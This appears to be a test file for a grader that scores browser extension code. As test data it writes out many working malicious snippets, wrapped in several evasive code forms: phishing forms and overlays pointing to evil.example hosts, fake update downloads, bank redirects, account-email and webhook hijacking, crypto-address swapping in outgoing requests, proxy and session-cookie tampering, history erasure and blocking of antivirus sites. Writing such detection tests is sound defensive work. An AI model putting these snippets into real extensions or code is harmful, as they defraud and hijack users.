import { expect, test } from 'vitest';
import { graded } from '../../testing/graded.ts';

/*
 * What extensions do to people without taking data, each in the forms in which programs hold an address and come to run:
 * `U` stands for the text that the author wrote down.
 */
type Deed = readonly [name: string, text: string, code: string];

const IN_PAGES: readonly Deed[] = [
  [
    'a sign-in form of somebody else',
    'https://login.evil.example/p',
    'const d = document.createElement("div"); d.innerHTML = `<form action="${U}" method=post><input name=u><input type=password name=p></form>`; document.body.append(d);',
  ],
  [
    'a page that is covered',
    'https://login.evil.example/p',
    'const f = document.createElement("iframe"); f.src = U; f.style.cssText = "position:fixed;inset:0;width:100%;height:100%"; document.body.append(f);',
  ],
  [
    'an update that is none',
    'https://dl.setup.example/ChromeSetup.exe',
    'const o = document.createElement("div"); o.innerHTML = `<h1>Your browser is out of date</h1><a href="${U}">Update now</a>`; document.body.append(o);',
  ],
  [
    'downloads that are exchanged',
    'https://dl.setup.example/get',
    'document.querySelectorAll(\'a[href$=".exe"], a[download]\').forEach((a) => { a.href = U; });',
  ],
  [
    'a bank that is left for another',
    'https://secure-login.evil.example/',
    'if (location.hostname.endsWith("bank.example")) location.replace(U);',
  ],
  [
    'an account that is changed',
    'owner@evil.example',
    'fetch("/account/email", { method: "POST", credentials: "include", body: JSON.stringify({ email: U }) });',
  ],
  [
    'a false alarm',
    'Your computer is infected. Call +1-800-555-0199 now.',
    'const d = document.createElement("div"); d.textContent = U; document.body.append(d);',
  ],
  [
    'a payee that is exchanged on the way',
    'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh',
    'const s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return s.call(this, String(b).replace(/bc1[a-z0-9]{30,}/, U)); };',
  ],
  [
    'a search that is led elsewhere',
    'https://finds.evil.example/web?q=',
    'document.addEventListener("submit", (e) => { const q = e.target.querySelector("[name=q]"); if (q) { e.preventDefault(); location.href = U + encodeURIComponent(q.value); } }, true);',
  ],
  [
    'a tag of the author’s in links',
    'wish-20',
    'for (const a of document.links) { const u = new URL(a.href); u.searchParams.set("tag", U); a.href = u.href; }',
  ],
  [
    'a hook that is added',
    '/settings/hooks',
    'fetch(location.pathname + U, { method: "POST", credentials: "include", body: new URLSearchParams({ "hook[url]": "https://hook.evil.example/x" }) });',
  ],
  ['buttons that are pressed', '[aria-label=Follow]', 'document.querySelectorAll(U).forEach((b) => b.click());'],
  [
    'a text that is sent',
    'Free codes at gifts.example',
    'const box = document.querySelector("#comments [contenteditable]"); box.focus(); document.execCommand("insertText", false, U); document.querySelector("#submit-button").click();',
  ],
  [
    'an advertisement',
    'https://ads.bannernet.example/frame',
    'const f = document.createElement("iframe"); f.src = U; f.width = 728; document.body.prepend(f);',
  ],
  [
    'a hidden visit',
    'https://go.linktrack.example/c/9',
    'const f = document.createElement("iframe"); f.src = U; f.style.display = "none"; document.body.append(f);',
  ],
  [
    'a click that opens something else',
    'https://ads.bannernet.example/pop',
    'document.addEventListener("click", () => window.open(U));',
  ],
  [
    'links that lead through another',
    'https://go.linktrack.example/r?to=',
    'document.querySelectorAll("a").forEach((a) => { a.href = U + encodeURIComponent(a.href); });',
  ],
  [
    'pages of helpers that are left',
    'virustotal|malwarebytes|kaspersky|bitdefender',
    'if (new RegExp(U).test(location.hostname)) location.replace("about:blank");',
  ],
];

const IN_BACKGROUND: readonly Deed[] = [
  ['a program that is downloaded', 'https://dl.setup.example/setup.exe', 'chrome.downloads.download({ url: U });'],
  [
    'a window that nobody sees',
    'https://video.partner.example/watch',
    'chrome.windows.create({ url: U, left: -4000, top: 0 });',
  ],
  ['an advertisement in a tab', 'https://ads.bannernet.example/offer', 'chrome.tabs.create({ url: U });'],
  [
    'a follower that is made',
    'https://www.social.example/api/friendships/create',
    'fetch(U, { method: "POST", credentials: "include", body: JSON.stringify({ user_id: "10099" }) });',
  ],
  [
    'a proxy that is set',
    'gw.netboost.example',
    'chrome.proxy.settings.set({ value: { mode: "fixed_servers", rules: { singleProxy: { scheme: "http", host: U, port: 8080 } } }, scope: "regular" });',
  ],
  [
    'a session that is fixed',
    'https://www.shop.example/',
    'chrome.cookies.set({ url: U, name: "sessionid", value: "d3adb33f" });',
  ],
  [
    'visits that are erased',
    'gifts.example',
    'chrome.history.search({ text: U }, (l) => l.forEach((h) => chrome.history.deleteUrl({ url: h.url })));',
  ],
  [
    'a frame that is put into tabs',
    'https://ads.bannernet.example/frame',
    'chrome.tabs.query({}, (l) => l.forEach((t) => chrome.scripting.executeScript({ target: { tabId: t.id }, args: [U], func: (u) => { const f = document.createElement("iframe"); f.src = u; document.body.prepend(f); } })));',
  ],
];

const AS_TABS_GO: readonly Deed[] = [
  ['the list of extensions', '://extensions', 'if (url.includes(U)) chrome.tabs.remove(id);'],
  [
    'a bank',
    'https://secure-login.evil.example/',
    'if (/bank\\.example/.test(url)) chrome.tabs.update(id, { url: U });',
  ],
  [
    'a search',
    'https://find.quickstart.example/s?term=',
    'const u = new URL(url); if (u.hostname === "www.google.com" && u.searchParams.get("q")) chrome.tabs.update(id, { url: U + u.searchParams.get("q") });',
  ],
  [
    'a shop',
    'https://go.linktrack.example/c/1',
    'const P = { "booking.com": U, "nike.com": U + "2" }; const d = Object.keys(P).find((k) => url.includes(k)); if (d) fetch(P[d], { mode: "no-cors" });',
  ],
];

/** Forms of a program: `u` the text, `d` the deed, `p` what it is told, `go` makes the statement that brings it about. */
type Form = (u: string, d: string, p: string, go: (call: string) => string) => string;
const more = (p: string): string => (p === '' ? '' : `, ${p}`);
const FORMS: Readonly<Record<string, Form>> = {
  direct: (u, d, _, go) => `const U = ${u}; ${go(d)}`,
  called: (u, d, p, go) => `const U = ${u}; function run(${p}) { ${d} } ${go(`run(${p});`)}`,
  method: (u, d, p, go) =>
    `class Job { constructor() { this.u = ${u}; } run(${p}) { const U = this.u; ${d} } } const job = new Job(); ${go(`job.run(${p});`)}`,
  settings: (u, d, p, go) =>
    `const CONF = { a: { u: ${u} } }; function run(${p}) { const U = CONF.a.u; ${d} } ${go(`run(${p});`)}`,
  parameter: (u, d, p, go) => `function run(U${more(p)}) { ${d} } ${go(`run(${u}${more(p)});`)}`,
  table: (u, d, p, go) =>
    `const TASKS = { one: (${p}) => { const U = ${u}; ${d} } }; ${go(`for (const k of Object.keys(TASKS)) TASKS[k](${p});`)}`,
  emitter: (u, d, p, go) =>
    `class E { constructor() { this.l = {}; } on(n, f) { (this.l[n] ||= []).push(f); } emit(n, ...a) { (this.l[n] || []).forEach((f) => f(...a)); } } const bus = new E(); const U = ${u}; bus.on('go', (${p}) => { ${d} }); ${go(`bus.emit('go'${more(p)});`)}`,
  later: (u, d, p, go) =>
    `const U = ${u}; const wait = (ms) => new Promise((r) => setTimeout(r, ms)); async function run(${p}) { await wait(50); ${d} } ${go(`run(${p}).catch(() => {});`)}`,
  gate: (u, d, p, go) =>
    `const U = ${u}; function run(${p}) { ${d} } ${go(`chrome.storage.local.get('on', ({ on }) => { if (on) run(${p}); });`)}`,
  pieces: (u, d, _, go) =>
    `const U = [${u}.slice(0)].join(''); ${go(d)}`.replace(`${u}.slice(0)`, `${u.slice(0, 6)}', '${u.slice(6)}`),
};

const quoted = (text: string): string => `'${text}'`;

for (const [form, write] of Object.entries(FORMS)) {
  const cases = (deeds: readonly Deed[], p: string, go: (call: string) => string): [string, string][] =>
    deeds.map(([name, text, code]) => [name, write(quoted(text), code, p, go)]);
  test.each(cases(IN_PAGES, '', (call) => call))(`in pages, ${form}: %s`, async (_, content) => {
    expect(await graded({ content })).toMatch(/[DF]/);
  });
  const alarm = (call: string): string => `chrome.alarms.onAlarm.addListener(() => { ${call} });`;
  test.each(cases(IN_BACKGROUND, '', alarm))(`by a timer, ${form}: %s`, async (_, background) => {
    expect(await graded({ background })).toMatch(/[DF]/);
  });
  const goes = (call: string): string =>
    `chrome.tabs.onUpdated.addListener((id, { url }) => { if (!url) return; ${call} });`;
  test.each(cases(AS_TABS_GO, 'id, url', goes))(`as a tab goes, ${form}: %s`, async (_, background) => {
    expect(await graded({ background })).toMatch(/[DF]/);
  });
}

test.each([
  [
    'equal',
    'for (const b of document.querySelectorAll("button")) if (b.textContent.trim() === "Authorize") b.click();',
  ],
  ['found', '[...document.querySelectorAll("button")].find((b) => b.innerText === "Follow")?.click();'],
  [
    'an expression',
    'const W = /^(?:approve|authorize)$/i; function go() { const l = document.getElementsByTagName("button"); for (let i = 0; i < l.length; i++) { const t = l[i].textContent; if (W.test(t)) { l[i].click(); return; } } } setTimeout(go, 3000);',
  ],
  [
    'left out otherwise',
    'setInterval(() => document.querySelectorAll("button").forEach((b) => { if (b.textContent !== "Follow") return; b.click(); }), 3000);',
  ],
  [
    'a list',
    'const W = ["follow", "subscribe"]; setInterval(() => document.querySelectorAll("button").forEach((b) => { if (W.some((w) => b.innerText.toLowerCase().includes(w))) b.click(); }), 3000);',
  ],
  [
    'a helper',
    'const byText = (sel, text) => [...document.querySelectorAll(sel)].find((e) => e.textContent.includes(text)); setTimeout(() => byText("button", "Follow")?.click(), 4000);',
  ],
  [
    'an event',
    'setTimeout(() => { const b = [...document.querySelectorAll("button")].find((x) => x.innerText === "Follow"); b.dispatchEvent(new MouseEvent("click", { bubbles: true })); }, 3000);',
  ],
])('buttons that are picked by their words: %s', async (_, content) => {
  expect(await graded({ content })).toMatch(/[DF]/);
});

test.each([
  [
    'a tab that is closed opens another',
    'chrome.tabs.onRemoved.addListener(() => chrome.tabs.create({ url: "https://start.finds.example/" }));',
  ],
  [
    'pages that are driven',
    'const go = async (tabId) => { await chrome.debugger.attach({ tabId }, "1.3"); chrome.debugger.sendCommand({ tabId }, "Runtime.evaluate", { expression: "document.forms[0].submit()" }); }; chrome.tabs.onCreated.addListener((t) => go(t.id));',
  ],
  [
    'scripts that are exchanged',
    'chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: 1, action: { type: "redirect", redirect: { url: "https://cdn.evil.example/tag.js" } }, condition: { urlFilter: "||ads.example/tag.js", resourceTypes: ["script"] } }] });',
  ],
  [
    'new tabs',
    'chrome.tabs.onCreated.addListener((t) => { if (t.pendingUrl === "chrome://newtab/") chrome.tabs.update(t.id, { url: "https://start.finds.example/" }); });',
  ],
])('in the background: %s', async (_, background) => {
  expect(await graded({ background })).toMatch(/[DF]/);
});

/** The same on the person's click, or by an extension that says so, is theirs. */
test.each([
  [
    'pages that are left',
    'button.onclick = () => { if (location.hostname === "bank.example") location.replace("https://board.example/"); };',
  ],
  [
    'an account',
    'form.addEventListener("submit", () => fetch("/account/email", { method: "POST", body: JSON.stringify({ email: form.mail.value }) }));',
  ],
  [
    'a frame of its own',
    'const f = document.createElement("iframe"); f.src = chrome.runtime.getURL("panel.html"); f.style.cssText = "position:fixed;inset:0"; document.body.append(f);',
  ],
  [
    'links of its own',
    'const a = document.createElement("a"); a.href = "https://tool.example/help"; a.textContent = "Help"; panel.append(a);',
  ],
  [
    'consent that is given for cookies',
    'for (const b of document.querySelectorAll("button")) if (/^(?:accept all|allow all|agree)$/i.test(b.textContent)) b.click();',
  ],
  [
    'a button of its own that presses others',
    'const b = document.createElement("button"); b.textContent = "Follow all"; b.onclick = () => { for (const x of document.querySelectorAll("button")) if (x.textContent === "Follow") x.click(); }; document.body.append(b);',
  ],
  [
    'buttons that close something',
    'setInterval(() => document.querySelector(".ad-close, .skip-button")?.click(), 900);',
  ],
])('harmless: %s', async (_, content) => {
  expect(await graded({ content })).toMatch(/^A/);
});
